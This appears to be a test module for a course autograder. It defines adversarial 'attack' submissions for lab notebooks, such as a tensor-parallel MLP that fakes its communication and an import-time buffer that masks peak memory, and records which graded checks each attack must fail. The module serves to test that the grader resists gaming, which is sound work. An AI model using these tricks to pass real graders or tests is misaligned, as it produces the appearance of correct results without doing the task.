# (TRAFFIC[2], 1024 x 4096) is built: a peak measured from after the import never passes the buffer's.
IMPORT_BUFFER = """

_buffer = torch.ones(24 << 20)


class TensorParallelMLP(TensorParallelMLP):
    def __init__(self, up, down):
        global _buffer
        if up.in_features * up.out_features >= 1 << 22:
            _buffer = None
        super().__init__(up, down)
"""
# The right layers, but every rank computes the MLP's whole output itself, drawing every rank's rows of up and columns
# of down from the inits 512 hidden features at a time (never a whole weight), and g all-reduces that output divided
# by the ranks: one all-reduce of the right size, that carries no partial sums. The gradients reach the rank's blocks
# and the input through its own partial output, which adds nothing to the value.
WHOLE_OUTPUT_MLP = """

class TensorParallelMLP(TensorParallelMLP):
    def __init__(self, up, down):
        super().__init__(up, down)
        self.inits = up, down

    def forward(self, x):
        up, down = self.inits
        with torch.no_grad():
            whole = down.bias().expand(x.shape[0], -1).clone()
            for start in range(0, up.out_features, 512):
                features = slice(start, start + 512)
                hidden = F.gelu(F.linear(x, up.weight(rows=features), up.bias(features)))
                whole += F.linear(hidden, down.weight(cols=features))
        partial = F.linear(F.gelu(self.up(x)), self.down.weight)
        return ReduceFromParallelRegion.apply(whole / dist.get_world_size()) + (partial - partial.detach())
"""
# The right layers, but the MLP all-gathers the other ranks' blocks while it is built, then computes the whole output on
# every rank from them (its own blocks in place, so that their gradients are right), with an all-reduce of zeros in
# each pass: one all-reduce's bytes a pass, right results until an SGD step leaves the gathered blocks stale.
GATHERS_AT_BUILD_MLP = """

class _AllReducesInBackward(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x.view_as(x)

    @staticmethod
    def backward(ctx, grad):
        dist.all_reduce(torch.zeros_like(grad))
        return grad


def _gathered(block, dim):
    blocks = [torch.empty_like(block) for _ in range(dist.get_world_size())]
    dist.all_gather(blocks, block.detach().contiguous())
    return blocks, dim


class TensorParallelMLP(TensorParallelMLP):
    def __init__(self, up, down):
        super().__init__(up, down)
        self._gathered = [_gathered(p, dim) for p, dim in self._blocks()]

    def _blocks(self):
        return [(self.up.weight, 0), (self.up.bias, 0), (self.down.weight, 1)]

    def forward(self, x):
        whole = []
        for (blocks, dim), (parameter, _) in zip(self._gathered, self._blocks()):
            blocks = list(blocks)
            blocks[dist.get_rank()] = parameter
            whole.append(torch.cat(blocks, dim=dim))
        up_weight, up_bias, down_weight = whole
        hidden = F.gelu(F.linear(_AllReducesInBackward.apply(x), up_weight, up_bias))
        output = F.linear(hidden, down_weight, self.down.bias)
        return output + ReduceFromParallelRegion.apply(torch.zeros_like(output))
"""
LAB11 = {
    "gathers_full_weight": {"megatron": _MEGATRON_HEAD + _COPY_TO_PARALLEL + GATHERING_LAYERS},
    "skips_backward_allreduce": {"megatron": _MEGATRON_HEAD + SKIPPED_ALL_REDUCE + MEGATRON_LAYERS},
    "builds_whole_then_slices": {"megatron": _MEGATRON_HEAD + _COPY_TO_PARALLEL + WHOLE_THEN_SLICED_LAYERS},
    "gathers_behind_import_buffer": {"megatron": _MEGATRON_HEAD + _COPY_TO_PARALLEL + GATHERING_LAYERS + IMPORT_BUFFER},
    "all_reduces_whole_output": {"megatron": _MEGATRON_HEAD + _COPY_TO_PARALLEL + MEGATRON_LAYERS + WHOLE_OUTPUT_MLP},
    "gathers_at_build": {"megatron": _MEGATRON_HEAD + _COPY_TO_PARALLEL + MEGATRON_LAYERS + GATHERS_AT_BUILD_MLP},
}
# The graded cells each attack named here must score 0 on, and full marks on the others; every other attack scores 0
# on every graded cell.
FAILS = {
    # Lab 02's, 03's and 06's attacks aim at the measured cell, with the reference's other answers, or answers whose
    # results are wrong where a measured cell's are (the checks of a cell that is not measured see it too).
    "lab02_profiling": {
        "patched_instruments": ("test_preprocess_speed",),
        "huge_message": ("test_preprocess_speed", "test_preprocess_fast"),
        "fake_results": ("test_preprocess_speed", "test_preprocess_fast"),
    },
    "lab03_data_loading": {
        "row_by_row": ("test_ceiling",),
        "replayed_epochs": ("test_ceiling", "test_fast_epoch"),
    },
    "lab06_compile": {
        name: ("test_compiled_speed", "test_compiled_step") for name in ("eager_with_hogs", "lazy_step", "no_update")
    },
    "lab01_timing": {
        # Its time_it cell is the probe, which defines no time_it; its other answers are the reference's, graded outside
        # the kernel that it killed after that cell.
        "leak": ("test_time_it",),
    },
    "lab10_flash_triton": {
        # Every cell: SDPA's gradients are not Algorithm 2's for an o and lse of the grader's, at T = 4096 too.
        "sdpa_wrapper": CHECKED_CELLS["lab10_flash_triton"],
        # The dense backward does as much work causal as not. On bfloat16 inputs the kernel's values are right (V cast
        # up is the more accurate), but its tl.dot of P and V takes float32 operands.
        "dense": ("test_causal_skip", "test_forward_bf16", "test_backward_memory", "test_backward_skip"),
        # The same unmasked reads in the bfloat16 launches.
        "unmasked_q": ("test_forward", "test_forward_bf16", "test_backward_memory"),
        "unmasked_kv": ("test_forward", "test_forward_bf16", "test_backward_memory"),
        # Query tiles of 64 against key tiles of 16 miss keys: the log-sum-exps are wrong too. The bfloat16 cases'
        # causal tiles are square, but their scores rounded to bfloat16 are over the tolerance in the hundreds.
        "square_tiles": ("test_forward", "test_lse", "test_backward_skip", "test_forward_bf16"),
    },
    "lab09_sharding": {
        # The sum fails the SGD configurations (test_equivalence, test_uneven); the decoy, test_sharded_state.
        "sum_and_decoy": ("test_equivalence", "test_uneven", "test_sharded_state"),
    },
    "lab11_megatron": {
        # Equal to one process everywhere, f and g right; but each layer alone all-gathers its whole weight, the MLP's
        # all-gathers are not one all-reduce a pass, and the whole weights not a block.
        "gathers_full_weight": ("test_layers", "test_communication", "test_memory"),
        # f's gradient is wrong, and so every input gradient after it; no bytes in the backward; the forward is right.
        "skips_backward_allreduce": ("test_f_g", "test_layers", "test_mlp", "test_communication"),
        # Handed only their block, the layers cannot be built: f and g alone are right.
        "builds_whole_then_slices": ("test_layers", "test_mlp", "test_communication", "test_memory"),
        # The gathering layers, and the buffer counts: memory is read from before the answer's module is imported.
        "gathers_behind_import_buffer": ("test_layers", "test_communication", "test_memory"),
        # Handed only its blocks, no rank can draw the others': its MLP raises where it asks for them (after SGD steps
        # it was wrong already). f, g and each layer alone are right.
        "all_reduces_whole_output": ("test_mlp", "test_communication", "test_memory"),
        # One all-reduce a pass, but the blocks gathered while the MLP is built: what the build sends fails the
        # communication, the whole weights held the memory, and after an SGD step the gathered blocks are stale.
        "gathers_at_build": ("test_mlp", "test_communication", "test_memory"),
    },
}
# The submissions of a measured lab that the grader refuses before it times anything ("not measured" on every
# measured cell, which the round trip checks): the untouched release, whose answers raise NotImplementedError, and
# these attacks.
MEASURES_NOTHING = {
    "lab02_profiling": ("untouched", "attack_anything", "attack_huge_message"),
    "lab03_data_loading": ("untouched", "attack_anything", "attack_replayed_epochs"),
    "lab06_compile": ("untouched", "attack_anything", "attack_lazy_step"),
    "lab12_capstone": (
        "untouched",
        "attack_clock_patched",
        "attack_grade_replaced",
        "attack_inconsistent",
        "attack_memory_pipeline",
        "attack_popen_replaced",
        "attack_shadow_module",
        "attack_unbounded",
    ),
}
# Attacks that only the sandbox stops: without bubblewrap they are not run (the sandbox's own test says why).
NEEDS_SANDBOX = {"writes_grader", "leak", "dense"}
_OWN_ATTACKS = {
    "lab01_timing": LAB01,
    "lab02_profiling": LAB02,
    "lab03_data_loading": LAB03,
    "lab06_compile": LAB06,
    "lab09_sharding": LAB09,
    "lab10_flash_triton": LAB10,
    "lab11_megatron": LAB11,
    "lab12_capstone": LAB12,
}
# Every lab's own attacks, and in every lab but the capstone (whose answers are configurations, handed in as data: its
# own attacks try what those allow) every answer equal to anything, with the comparisons replaced.
ATTACKS = {
    lab: {**_OWN_ATTACKS.get(lab, {}), **({} if lab == "lab12_capstone" else {"anything": anything_answers(lab)})}
    for lab in LAB_NAMES
}
# What the trimmed attack notebooks keep of the read-only code cells: the setup, nothing that trains
# or compiles. A learner may delete read-only cells; the grader reads only answers, and the course's
# own cells, from its copy of the lab.
KEPT = {"colab_setup", "setup"}


def course_cells(lab: str) -> dict[str, str]:
    """The lab's graded cells as its trusted grader receives the course's: grade_id -> source, magics dropped."""
    notebook = nbformat.read(REPO / "solutions" / lab / f"{lab}.ipynb", as_version=4)
    return {
        cell.metadata["nbgrader"]["grade_id"]: _clean(cell.source)
        for cell in notebook.cells
        if cell.cell_type == "code" and "nbgrader" in cell.metadata
    }


def leak_probe_outputs(notebook_path) -> str:
    """What the graded notebook's leak probe cell printed or raised, its outputs joined: the kernel may send one
    ``print`` as several stream messages (its output is flushed on an interval, between two writes of one line under
    load), and each is an output of its own in the notebook, so the probe's line is read here, not in the file."""
    notebook = nbformat.read(notebook_path, as_version=4)
    probe = next((cell for cell in notebook.cells if "leak probe found" in cell.source), None)
    if probe is None:
        return "no cell of the notebook holds the leak probe"
    shown = [output.get("text") or f"{output.get('ename')}: {output.get('evalue')}\n" for output in probe.outputs]
    return "the probe's cell printed: " + ("".join(shown) or "nothing")


def build_attack(lab: str, name: str) -> tuple[nbformat.NotebookNode, dict[str, str]]:
    """The attack's notebook and the files it hands in beside it (relative path -> text)."""
    notebook = nbformat.read(REPO / "solutions" / lab / f"{lab}.ipynb", as_version=4)
    attack = ATTACKS[lab][name]
    kept = []
    for cell in notebook.cells:
        nbgrader = cell.metadata.get("nbgrader", {})
        if (
            cell.cell_type == "code"
            and nbgrader.get("locked")
            and not nbgrader.get("grade")
            and _grade_id(cell) not in KEPT
        ):
            continue
        kept.append(cell)
        if _grade_id(cell) == "setup" and lab == "lab12_capstone":
            kept.append(new_code_cell(NAIVE_CONFIGS + attack))
    notebook.cells = kept
    if lab != "lab12_capstone":
        for grade_id, source in attack.items():
            if grade_id.startswith("after:"):
                after = next(i for i, cell in enumerate(notebook.cells) if _grade_id(cell) == grade_id[6:])
                notebook.cells.insert(after + 1, new_code_cell(source))
            else:
                _set(notebook, grade_id, source)
        return notebook, {}
    answered_later = INCONSISTENT_LATER if name == "inconsistent" else {}
    # Every answer is given in the attack's own cell, or not at all: the grader reads none of it.
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = answered_later.get(_grade_id(cell), "# answered above")
    files = {"perflab/__init__.py": SHADOW_PERFLAB} if name == "shadow_module" else {}
    return notebook, files
